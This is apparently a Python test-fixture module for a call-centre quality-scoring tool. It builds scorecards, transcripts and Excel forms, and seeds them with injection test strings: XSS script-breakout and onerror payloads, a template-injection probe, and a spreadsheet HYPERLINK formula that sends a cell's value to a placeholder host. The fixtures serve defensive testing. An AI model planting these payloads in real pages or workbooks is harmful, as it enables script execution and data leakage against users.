"""Blank forms to be filled in: a card with a condition, a number scale and words that mean harm, and conversations."""

from __future__ import annotations

import io
import re
import zipfile
from datetime import date, datetime
from html import escape
from pathlib import Path

import desk
from in_memory import BINARY, POINT5

from qacli.files.yaml import parse
from qacli.monitor.observing.blank import Blank
from qacli.monitor.observing.sheet import Sheet
from qacli.monitor.sampling.draw import Item
from qacli.monitor.suggesting.suggestion import Suggestion
from qacli.prepare.scorecards.scale import Scale
from qacli.prepare.scorecards.scorecard import Scorecard
from qacli.sources.transcripts.turns import Turn

# What a cell or a page must show and never do: OWASP, CSV injection; OWASP, XSS filter evasion.
HARM = """</script><script>alert(1)</script><img src=x onerror=alert(1)> "'{{ 7*7 }}"""
FORMULA = '=HYPERLINK("http://x.example/?"&A1,"press")'
NUMBERS = """\
{id: number100, version: 1, owner: p_tl1, from: 2026-01-01, title: Measured, kind: number, met_at: 80,
 range: {from: 0, to: 100, step: 5}}
"""
CARD = """\
id: desk
version: 1.0
owner: p_tl1
from: 2026-01-01
title: Calls & <chats>
channels: [phone, chat]
promises: {safe: Your money is safe with us., sorted: We sort it out the first time.}
sections:
  - id: open
    title: Opening
    criteria:
      - {id: idv, observable: "The check is passed before any detail is given. </script><b>", scale: binary@1, weight: 0,
         critical: compliance, anchors: {not_met: A detail comes first., met: '=1+1 The pass comes first.'},
         not_applicable: General question., procedure: idv@1, promise: safe}
      - {id: hold, observable: The caller is put on hold., scale: binary@1, weight: 0, critical: customer,
         anchors: {not_met: No., met: 'Yes.'}, not_applicable: never, procedure: idv@1, promise: safe}
      - {id: why, observable: The reason for it is said., scale: point5@1, weight: 30,
         only_if: {criterion: hold, answers: [met]}, anchors: {1: No reason., 3: A reason., 4: Before., 5: As 4 and how long.},
         not_applicable: never, procedure: need@1, promise: sorted}
      - {id: wait, observable: The first words come soon., scale: number100@1, weight: 30,
         anchors: {0: After two minutes., 100: Within one.}, not_applicable: No words., procedure: need@1, promise: sorted}
      - {id: next, observable: The next step is said., scale: point5@1, weight: 40,
         anchors: {1: No next step., 3: A next step., 4: A next step with a day., 5: As 4 and who does it.},
         not_applicable: Nothing is left to do., procedure: need@1, promise: sorted}
"""
TRANSCRIPT = """\
10:20 A: Which postcode, please?
10:21 C: [b]EC1[/b] </script><img src=x onerror=alert(1)>
10:23 C: =HYPERLINK("http://x.example","press")
10:24 A: I ring you on Friday.
"""
TURNS = (
    Turn(1, 0, "colleague", "Which postcode, please?"),
    Turn(2, 60, "customer", HARM),
    Turn(3, 180, "customer", FORMULA),
    Turn(4, 240, "colleague", "I ring you on Friday."),
)
DESK = Scorecard.model_validate(parse(CARD, "card.yaml").data)
SCALES = {
    f"{scale.id}@1": scale
    for scale in (Scale.model_validate(parse(text, "s.yaml").data) for text in (BINARY, POINT5, NUMBERS))
}
SUGGESTED = (Suggestion("next", "5", "friday@1", 4, "ring you on Friday"),)
ITEM = Item(
    id="t_5-1",
    draw="d_5",
    transaction="A07-20 <i>",
    started_at=datetime.fromisoformat("2026-05-20T10:20+01:00"),
    day=date(2026, 5, 20),
    channel="phone",
    team="",
    colleague="p_a07",
    reason="",
    seconds=300,
    stratum="p_a07",
    purpose="routine",
    probability=0.1,
    weight=10.0,
    scorecard="desk@1.0",
    evaluator="p_ev1",
)


def sheet(**more):
    """A sheet of the card with nothing entered."""
    return Sheet(DESK, SCALES, **{"turns": TURNS, "suggested": SUGGESTED, **more})


def blank(**more):
    """A blank form of it."""
    return Blank(ITEM, sheet(**more), "p_ev1", ("adjustment for p_a07: reads <b>large</b> print",))


def workspace(folder: Path) -> Path:
    """The desk with this card, drawn, every transaction with a transcript, and a rule that suggests."""
    folder = desk.make(folder)
    transcripts = {f"transcripts/{line.partition(',')[0]}.txt": TRANSCRIPT for line in desk.conversations()}
    desk.write(folder, {"definitions/scorecards/desk.yaml": CARD, "definitions/rules.yaml": RULE, **transcripts})
    return desk.drawn(desk.agreed(folder))


RULE = """\
- {id: friday, version: 1, owner: p_tl1, from: 2026-01-01, title: A day is named., criterion: next, who: colleague,
   any_of: ['ring you on (Mon|Fri)day'], found: '5'}
"""


def typed(book: bytes, cells: dict[str, object], sheet: int = 2) -> bytes:
    """A workbook with what somebody typed into cells of one sheet, by its place: texts, numbers, formulas (=), None."""
    made = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(book)) as source, zipfile.ZipFile(made, "w") as target:
        for name in source.namelist():
            text = source.read(name)
            if name == f"xl/worksheets/sheet{sheet}.xml":
                text = _with(text.decode(), cells).encode()
            target.writestr(name, text)
    return made.getvalue()


def _with(xml: str, cells: dict[str, object]) -> str:
    for cell, what in cells.items():
        if isinstance(what, str) and what.startswith("="):
            inner = f"><f>{escape(what[1:])}</f><v>4</v></c>"
        elif isinstance(what, str):
            inner = f' t="inlineStr"><is><t xml:space="preserve">{escape(what)}</t></is></c>'
        else:
            inner = "/>" if what is None else f"><v>{what}</v></c>"
        empty = rf'(<c r="{cell}"(?: s="[0-9]+")?)(?: t="[a-z]+")?(?:/>|>.*?</c>)'
        xml, found = re.subn(empty, lambda cell_, inner=inner: cell_[1] + inner, xml)
        assert found == 1, f"there is no cell {cell}"
    return xml
